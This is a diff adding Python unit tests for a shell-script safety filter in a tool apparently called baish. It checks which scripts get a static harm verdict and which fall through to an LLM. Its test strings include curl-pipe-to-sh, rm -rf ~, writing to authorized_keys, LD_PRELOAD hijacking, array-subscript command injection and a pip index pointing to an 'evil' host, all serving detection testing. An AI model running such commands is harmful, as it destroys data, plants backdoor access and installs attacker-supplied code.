@@ -0,0 +1,130 @@
+import shutil
+import tempfile
+import unittest
+from pathlib import Path
+from unittest.mock import patch
+
+from src.baish.config import Config, LLMConfig
+from src.baish.static_filter import static_verdict
+
+SHELL = "text/x-shellscript"
+
+
+class TestStaticFilter(unittest.TestCase):
+    def test_benign_scripts_get_a_verdict(self):
+        cases = {
+            "#!/bin/sh\necho 'hello'\n": (1, False),
+            "#!/bin/bash\nset -euo pipefail\nmkdir -p ~/.config/app\n": (1, False),
+            "#!/bin/sh\ncommand -v git >/dev/null 2>&1 || echo 'no git'\n": (1, False),
+            "#!/bin/sh\nsudo apt-get update\nsudo apt-get install -y curl \\\n  git\n": (
+                2,
+                True,
+            ),
+            "#!/bin/sh\npip install --user 'requests==2.31'\n": (2, False),
+            "#!/bin/sh\nnpm install -g @types/node\n": (2, False),
+        }
+        for script, (harm, requires_root) in cases.items():
+            result = static_verdict(script, SHELL)
+            self.assertIsNotNone(result, script)
+            self.assertEqual(result[0], harm, script)
+            self.assertEqual(result[3], requires_root, script)
+            self.assertEqual(result[4], SHELL)
+
+    def test_ambiguous_scripts_fall_through(self):
+        scripts = [
+            "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n",
+            "#!/bin/sh\necho $(rm -rf ~)\n",
+            "#!/bin/sh\necho `id`\n",
+            "#!/bin/sh\necho a#; rm -rf ~\n",
+            "#!/bin/sh\necho key >> ~/.ssh/authorized_keys\n",
+            "#!/bin/sh\nPATH=/tmp:$PATH ls\n",
+            "#!/bin/sh\nexport LD_PRELOAD=/tmp/x.so\n",
+            "#!/bin/sh\npip install git+https://example.com/pkg.git\n",
+            "#!/bin/sh\npip install -i https://example.com/simple pkg\n",
+            "#!/bin/sh\napt-get install -o Dpkg::Pre-Invoke::=id foo\n",
+            "#!/bin/sh\napt-get remove -y openssh-server\n",
+            "#!/bin/sh\n( echo hi )\n",
+            "#!/bin/sh\ncat <<EOF\nhello\nEOF\n",
+            '#!/bin/sh\necho "\nrm -rf ~\n"\n',
+            "#!/bin/sh\nsudo -s\n",
+            "#!/bin/sh\n/tmp/echo hi\n",
+        ]
+        for script in scripts:
+            self.assertIsNone(static_verdict(script, SHELL), script)
+
+    def test_array_subscript_evaluation_falls_through(self):
+        scripts = [
+            "#!/bin/bash\nprintf -v a[\\$\\(echo\\${IFS}PWNED\\|cat\\>\\&2\\)] x\n",
+            "#!/bin/bash\ntest -v a[\\$\\(id\\>\\&2\\)]\n",
+            "#!/bin/bash\n[ -v a[\\$\\(id\\>\\&2\\)] ]\n",
+            "#!/bin/bash\nprintf -v 'a[$(id)]' x\n",
+            "#!/bin/bash\nprintf hi\n",
+            "#!/bin/bash\necho a[\\`id\\`]\n",
+            "#!/bin/bash\necho \\$\\(id\\)\n",
+        ]
+        for script in scripts:
+            self.assertIsNone(static_verdict(script, SHELL), script)
+
+    def test_variables_outside_the_allowlist_fall_through(self):
+        scripts = [
+            "#!/bin/sh\nPIP_INDEX_URL=http://evil/simple pip install requests\n",
+            "#!/bin/sh\nexport PIP_INDEX_URL=http://evil/simple\npip install requests\n",
+            '#!/bin/sh\nNODE_OPTIONS="--import=data:text/javascript,1" npm install x\n',
+            "#!/bin/sh\nexport HOME=/tmp/evil\n",
+        ]
+        for script in scripts:
+            self.assertIsNone(static_verdict(script, SHELL), script)
+
+        result = static_verdict(
+            "#!/bin/sh\nDEBIAN_FRONTEND=noninteractive sudo apt-get install -y git\n",
+            SHELL,
+        )
+        self.assertEqual(result[0], 2)
+
+    def test_only_small_shell_scripts(self):
+        self.assertIsNone(static_verdict("print('hi')\n", "text/x-script.python"))
+        self.assertIsNone(static_verdict("#!/bin/sh\n" + "echo hi\n" * 2000, SHELL))
+
+
+class TestStaticFilterPipeline(unittest.TestCase):
+    def setUp(self):
+        self.temp_dir = tempfile.mkdtemp()
+        self.addCleanup(lambda: shutil.rmtree(self.temp_dir))
+        self.config = Config(
+            llms={
+                "test_llm": LLMConfig(
+                    name="test_llm",
+                    provider="groq",
+                    model="test-model",
+                    api_key="test-key",
+                )
+            },
+            default_llm="test_llm",
+            baish_dir=Path(self.temp_dir),
+        )
+
+    @patch("src.baish.script_analyzer._analyze_with_llm")
+    def test_static_verdict_skips_llm(self, mock_analyze):
+        from src.baish.script_analyzer import analyze_script
+
+        result = analyze_script("#!/bin/sh\necho hi\n", config=self.config)
+
+        mock_analyze.assert_not_called()
+        self.assertEqual(result[0], 1)
+
+    @patch("src.baish.script_analyzer._analyze_with_llm")
+    def test_static_filter_can_be_disabled(self, mock_analyze):
+        from src.baish.script_analyzer import analyze_script
+
+        mock_analyze.return_value = (2, 1, "LLM verdict", False, SHELL)
+        self.config.static_filter_enabled = False
+
+        result = analyze_script(
+            "#!/bin/sh\necho hi\n", config=self.config, use_cache=False
+        )
+
+        self.assertEqual(result[2], "LLM verdict")
+
+
+if __name__ == "__main__":
+    unittest.main()